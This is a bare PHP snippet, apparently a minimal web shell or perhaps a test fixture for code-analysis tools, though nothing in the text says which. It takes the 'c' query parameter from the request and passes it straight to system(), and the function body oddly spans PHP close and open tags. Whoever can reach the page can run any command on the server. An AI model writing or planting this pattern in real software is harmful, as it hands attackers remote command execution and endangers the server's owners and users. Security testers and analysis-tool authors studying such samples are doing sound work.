<?php
function f() {
  $c = $_GET["c"]; ?>
}
<?php system($c);
}
f();
